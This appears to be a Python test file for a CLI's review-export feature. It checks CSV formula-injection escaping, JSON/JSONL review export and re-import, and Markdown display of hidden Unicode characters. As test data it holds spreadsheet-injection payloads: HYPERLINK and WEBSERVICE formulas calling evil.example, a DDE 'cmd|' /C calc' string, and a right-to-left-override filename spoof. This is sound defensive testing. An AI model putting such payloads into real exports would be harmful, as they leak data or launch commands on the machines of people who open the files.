"""What review exports write (issue 33.10, 33.18): no CSV cell a spreadsheet runs as a
formula; ``export --with-reviews`` carries the reviews in JSON and JSONL (and the JSONL
still imports); hidden characters in a Markdown review block shown as markers."""

from __future__ import annotations

import csv
import json

from helpers import write_flux

from fluxgui.cli import main

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_no_csv_cell_starts_a_formula(tmp_path, capsys):
    # hostile session ids (the agent's store), notes, tags, reviewer names, criterion names
    ids = [f"{c}HYPERLINK(\"http://evil.example/{n}\")" for n, c in enumerate(DANGEROUS)]
    store = tmp_path / "flux.db"
    write_flux(store, {sid: [{"role": "user", "content": "hi"}] for sid in ids})
    reviews = ["--reviews", str(tmp_path / "r.db")]
    rubric = tmp_path / "rubric.json"
    rubric.write_text(json.dumps({"criteria": [
        {"name": f"{c}SUM(A1)", "kind": "boolean"} for c in "=+-@"] + [{"name": "tone", "kind": "numeric", "min": -5, "max": 5}]}))
    assert run(capsys, "review", "rubric", "set", str(store), str(rubric), *reviews)[0] == 0
    for n, (sid, c) in enumerate(zip(ids, DANGEROUS, strict=True)):
        tag = [f"--tag={c}cmd|' /C calc'!A0"] if c.strip() else []  # (a tag is trimmed)
        code, _, err = run(capsys, "review", "set", "--state", "flagged", "--score", "+SUM(A1)=yes",
                           f"--score=tone={-n}", f"--note={c}WEBSERVICE(\"http://evil.example\")", *tag,
                           f"--reviewer={c}reviewer", *reviews, "--", str(store), sid)
        assert code == 0, err
    dest = tmp_path / "reviews.csv"
    code, _, err = run(capsys, "review", "export", str(store), "--format", "csv", "-o", str(dest), *reviews)
    assert code == 0, err
    with dest.open(encoding="utf-8", newline="") as fh:  # (as the csv module asks: CRs in cells kept)
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(body) == len(ids)
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(DANGEROUS) or cell.lstrip("-").isdigit(), repr(cell)
    assert [h for h in header if h.startswith("'")] == [f"'{c}SUM(A1)" for c in "=+-@"]
    got = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    for n, (sid, c) in enumerate(zip(ids, DANGEROUS, strict=True)):
        row = got["'" + sid]
        assert row["first_note"] == f"'{c}WEBSERVICE(\"http://evil.example\")"
        assert row["reviewer"] == (f"'{c}reviewer" if c.strip() else "reviewer")  # (a name is trimmed)
        assert row["tags"] == (f"'{c}cmd|' /C calc'!A0" if c.strip() else "")
        assert row["tone"] == str(-n)  # a number is no formula: written as it is


def test_json_and_jsonl_exports_carry_the_reviews(tmp_path, capsys):
    store = tmp_path / "flux.db"
    write_flux(store, {"s1": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "yo"}],
                       "s2": [{"role": "user", "content": "plain"}]})
    reviews = ["--reviews", str(tmp_path / "r.db")]
    code, _, err = run(capsys, "review", "set", str(store), "s1", "--state", "flagged", "--tag", "refund",
                       "--score", "tone=2", "--note", "charged twice", "--reviewer", "ann", *reviews)
    assert code == 0, err
    code, out, _ = run(capsys, "review", "ls", str(store), "--json", *reviews)
    expected = {k: v for k, v in json.loads(out)["reviews"][0].items() if k != "session_id"}
    assert expected["state"] == "flagged" and expected["notes"][0]["text"] == "charged twice"

    code, _, err = run(capsys, "export", str(store), "-o", str(tmp_path / "out.json"), "--with-reviews", *reviews)
    assert code == 0, err
    sessions = {s["id"]: s for s in json.loads((tmp_path / "out.json").read_text())["sessions"]}
    assert sessions["s1"]["review"] == expected and [m["text"] for m in sessions["s1"]["messages"]] == ["hi", "yo"]
    assert "review" not in sessions["s2"]  # nothing to say about an unreviewed session

    code, _, err = run(capsys, "export", str(store), "-o", str(tmp_path / "out.jsonl"), "--with-reviews", *reviews)
    assert code == 0, err
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    at = lines.index({"session_id": "s1", "review": expected})
    assert [(r["session_id"], r["text"]) for r in lines[at + 1:at + 3]] == [("s1", "hi"), ("s1", "yo")]
    assert sum("review" in r for r in lines) == 1
    # the export still imports: the review line is not a message
    code, _, err = run(capsys, "import", str(tmp_path / "copy.db"), str(tmp_path / "out.jsonl"), "--format", "flux")
    assert code == 0, err
    code, out, _ = run(capsys, "show", str(tmp_path / "copy.db"), "s1", "--json")
    assert [m["text"] for m in json.loads(out)["messages"]] == ["hi", "yo"]


def test_markdown_review_shows_hidden_characters_as_markers(tmp_path, capsys):
    store = tmp_path / "flux.db"
    write_flux(store, {"s1": [{"role": "user", "content": "hi"}]})
    reviews = ["--reviews", str(tmp_path / "r.db")]
    code, _, err = run(capsys, "review", "set", str(store), "s1", "--note", "refund \u202egnp.exe\u202c ok",
                       "--tag", "zero\u200bwidth", "--reviewer", "ann\u202e", *reviews)
    assert code == 0, err
    code, _, err = run(capsys, "export", str(store), "-o", str(tmp_path / "out.md"), "--with-reviews", *reviews)
    assert code == 0, err
    text = (tmp_path / "out.md").read_text()
    assert "\u202e" not in text and "\u202c" not in text and "\u200b" not in text
    assert "⟨U+202E⟩gnp.exe⟨U+202C⟩" in text.replace("\\", "") and "zero⟨U+200B⟩width" in text.replace("\\", "")
